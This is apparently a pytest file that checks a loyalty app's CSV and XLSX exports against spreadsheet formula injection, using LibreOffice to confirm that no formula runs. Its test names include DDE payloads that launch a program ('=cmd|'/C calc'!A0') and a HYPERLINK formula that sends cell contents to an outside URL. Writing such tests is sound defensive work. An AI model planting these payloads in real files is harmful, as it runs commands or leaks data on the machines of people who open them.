"""Members whose names want to be programs: LibreOffice opens their files and runs nothing."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from loyalty.exports.columns import ColumnKind
from tests.exports.formatted import attribute, csv_cells, make, write
from tests.tags.speaking import speaking

SOFFICE = shutil.which("soffice")
# Comma, quote, UTF-8, from line 1, English, numbers recognised, formulas evaluated.
CSV_WITH_FORMULAS = "CSV:{},34,76,1,,1033,false,true,false,false,false,-1,true"
COMMA = 44
OTHER_EDGES = {"semicolons": 59, "bars": 124}
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
PARAGRAPH = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}p"

NAMES = [
    "=cmd|'/C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://example.com?"&A1,"Lan")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    '","=1+1',
    "Lan\n=1+1",
    "Lan\r\n=1+1,=1+1",
    "'=1+1",
    "''=1+1",
    "Lan;=1+1",
    'Lan;"=1+1',
    "Lan;=1+1;",
    "Lan|=1+1",
    "Lan\n=1+1;",
    '"Lan" "Lê"',
    "Lê, Lan",
    "💖 Lan 💖",
    "\u202eLan\u202c",
    "لان",
    "http://example.com",
    "1E5",
    "TRUE",
]
LIKES = attribute("likes", ColumnKind.CHOICES, label="=1+1")
PEOPLE = [
    {
        "phone": "+66812345678" if place % 2 else f"+849{place:08}",
        "name": name,
        "email": "=1+1@example.com",
        "occupation": name,
        "tags": (name, "VIP"),
        "attributes.likes": (name,),
    }
    for place, name in enumerate(NAMES)
]
COLUMNS = ["phone", "name", "email", "occupation", "tags", LIKES]
CHOSEN: dict[str, list[Any]] = {
    "csv": COLUMNS,
    "xlsx": COLUMNS,
    "zalo": ["name", "tags"],
    "sms": ["name", "tags"],
}
COMMA_FILES = ["csv", "meta", "google", "tiktok", "zalo", "sms"]


def file_of(name: str, folder: Path) -> Path:
    """Their file in that format, by the format's name."""
    with speaking("vi"):
        (file,) = write(make(name, CHOSEN.get(name, ())), PEOPLE, folder).files
    return (folder / file.name).rename(folder / f"{name}{Path(file.name).suffix}")


def opened(files: list[Path], folder: Path, *options: str) -> dict[str, ElementTree.Element]:
    """The files as LibreOffice understands them, by name."""
    profile = (folder / "profile").as_uri()
    command = [str(SOFFICE), f"-env:UserInstallation={profile}", "--headless", *options]
    command += ["--convert-to", "fods", "--outdir", str(folder / "opened"), *map(str, files)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    made = (folder / "opened").glob("*.fods")
    return {path.stem: ElementTree.parse(path).getroot() for path in made}  # noqa: S314


@pytest.fixture(scope="module")
def as_opened(tmp_path_factory):
    if SOFFICE is None:
        pytest.skip("LibreOffice is not installed")
    folder = tmp_path_factory.mktemp("hostile")
    live = folder / "live.csv"
    live.write_text("name\r\n=1+1\r\n", encoding="utf-8-sig")
    comma_files = [live, *(file_of(name, folder) for name in COMMA_FILES)]
    found = opened([file_of("xlsx", folder)], folder) | _cut_at(COMMA, comma_files, folder)
    for edges, edge in OTHER_EDGES.items():
        (elsewhere := folder / edges).mkdir()
        cut = _cut_at(edge, comma_files, elsewhere)
        found |= {f"{name} by {edges}": document for name, document in cut.items()}
    return found


def _cut_at(edge: int, files: list[Path], folder: Path) -> dict[str, ElementTree.Element]:
    return opened(files, folder, f"--infilter={CSV_WITH_FORMULAS.format(edge)}")


def formulas_in(document: ElementTree.Element) -> list[str]:
    formulas = (cell.get(f"{TABLE}formula") for cell in document.iter())
    return [formula for formula in formulas if formula is not None]


def texts_in(document: ElementTree.Element) -> set[str]:
    """Of cells of one paragraph: a line break within a cell makes several."""
    cells = document.iter(f"{TABLE}table-cell")
    return {"".join(cell[0].itertext()) for cell in cells if len(cell.findall(PARAGRAPH)) == 1}


def test_formula_would_be_seen(as_opened):
    assert formulas_in(as_opened["live"]) == ["of:=1+1"]


OTHERWISE = [f"{name} by {edges}" for edges in OTHER_EDGES for name in COMMA_FILES]
OPENED = [*COMMA_FILES, *OTHERWISE, "xlsx"]


@pytest.mark.parametrize("name", OPENED)
def test_no_file_has_a_live_formula(as_opened, name):
    assert formulas_in(as_opened[name]) == []


@pytest.mark.parametrize("name", ["csv", "xlsx"])
def test_names_stand_in_their_cells(as_opened, name):
    texts = texts_in(as_opened[name])
    assert {"Lê, Lan", "💖 Lan 💖", '"Lan" "Lê"', "لان"} <= texts
    assert ("Lan;'=1+1" if name == "csv" else "Lan;=1+1") in texts
    assert ("'=1+1" if name == "csv" else "=1+1") in texts


def test_no_cell_of_the_csv_begins_as_a_formula(tmp_path):
    cells = [cell for line in csv_cells(file_of("csv", tmp_path), "utf-8-sig") for cell in line]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n\0"))]
    assert len(cells) == len(COLUMNS) * (len(PEOPLE) + 1)


@pytest.mark.parametrize("name", ["zalo", "sms"])
def test_senders_get_no_name_that_a_spreadsheet_would_run(tmp_path, name):
    cells = [cell for line in csv_cells(file_of(name, tmp_path)) for cell in line]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n\0"))]
